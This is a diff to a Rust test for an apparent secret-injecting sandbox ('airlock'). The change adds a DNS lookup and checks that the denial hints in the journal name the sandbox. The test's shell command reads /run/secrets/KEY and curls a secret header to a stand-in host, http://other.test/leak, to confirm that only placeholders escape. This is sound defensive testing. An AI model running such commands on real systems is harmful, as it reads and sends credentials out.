@@ -481,7 +481,8 @@ fn named_injected(a: &Airlock, label: &str) {
             "echo \"env=$KEY\"; echo \"file=$(cat /run/secrets/KEY)\"; \
              echo \"bundle=$SSL_CERT_FILE $REQUESTS_CA_BUNDLE\"; \
              curl -sS --max-time 10 -H \"x-api-key: $KEY\" https://api.test/named; \
-             curl -sS --max-time 10 {fmt} -H \"x-leak: $KEY\" http://other.test/leak"
+             curl -sS --max-time 10 {fmt} -H \"x-leak: $KEY\" http://other.test/leak; \
+             getent hosts denied.test >/dev/null || true"
         ),
     ]);
     let lines: Vec<&str> = out.stdout.lines().collect();
@@ -513,6 +514,11 @@ fn named_injected(a: &Airlock, label: &str) {
         .unwrap_or_default();
     assert!(
         journal.contains("placeholder of secret KEY") && !journal.contains(REAL),
+        "{label}: {journal}"
+    );
+    // Its denials' hints name the sandbox, not the member it was (`airlock allow run-…`).
+    assert!(
+        journal.contains("airlock allow wi-one denied.test") && !journal.contains("allow run-"),
         "{label}: {journal}"
     );
     assert!(!out.stdout.contains(REAL) && !out.stderr.contains(REAL));
